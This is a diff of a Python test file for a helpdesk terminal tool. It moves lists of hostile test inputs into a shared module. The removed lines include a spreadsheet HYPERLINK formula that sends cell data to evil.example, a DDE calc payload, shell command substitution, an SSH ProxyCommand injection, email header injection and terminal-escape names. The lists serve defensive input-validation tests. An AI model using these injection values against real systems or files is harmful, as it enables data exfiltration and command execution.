@@ -12,52 +12,17 @@ from moc_tui.cli import main
 from moc_tui.devstack.sheets_api import FakeSheetsServer
 from tests.fixtures.keystone import KeystoneAdmin
 from tests.fixtures.stack import DONE, FORM, MakeStack
+from tests.hostile_values import (
+    LITERAL_TEXT,
+    LONG_TEXT,
+    REFUSED_EMAILS,
+    REFUSED_NAMES,
+    REFUSED_PINS,
+    REFUSED_PROJECTS,
+)
 from tests.sample_rows import access_row
 
 pytestmark = pytest.mark.keystone
-
-LITERAL_TEXT = [
-    "[@click=app.screenshot('x.svg','/tmp/hd')]Bob[/]",
-    "[link='https://evil.example']support[/link]",
-    "<SETPASS_TOKEN_URL>",
-    "{0.__class__} {admin_pwd} %(admin_pwd)s %s%n",
-    '=HYPERLINK("https://evil.example/?"&A1,"x")',
-    "+cmd|' /C calc'!A0",
-    "@SUM(1)",
-    "-2+3",
-    "Z\u0335a\u0338lgo 測試 👩",
-]
-# Free text beyond what a name may be (longer than 64, or with a zero-width joiner): kept
-# literally in the fields that are not names.
-LONG_TEXT = ["[b]" * 500 + "x", "👩\u200d👩\u200d👧 family"]
-
-REFUSED_EMAILS = [
-    "victim@example.org\r\nBcc: attacker@evil.example",
-    "../../var/lib/helpdesk-home/.profile@example.org",
-    "alice@exаmple.org",
-    "-oProxyCommand=sh@x.y",
-    "admin@example.org",
-    '"quoted local"@x.org',
-]
-REFUSED_PROJECTS = [
-    "admin",
-    " Admin",
-    "аdmin",
-    "../etc",
-    "p" * 65,
-    "$(touch /tmp/PWNED)",
-    "-c",
-    "ﬁnance",
-    "pr\x00oj",
-]
-REFUSED_PINS = ["1234\n", "١٢٣٤", "１２３４", "12345", " 1234", "0x1F"]
-REFUSED_NAMES = [
-    "Eve\x1b]2;PWNED\x07",
-    "Bob\u202egnp.exe",
-    "adm\u200bin",
-    "Eve\nApproved: yes",
-    "Eve\x00",
-]
 
 
 def test_hostile_rows(
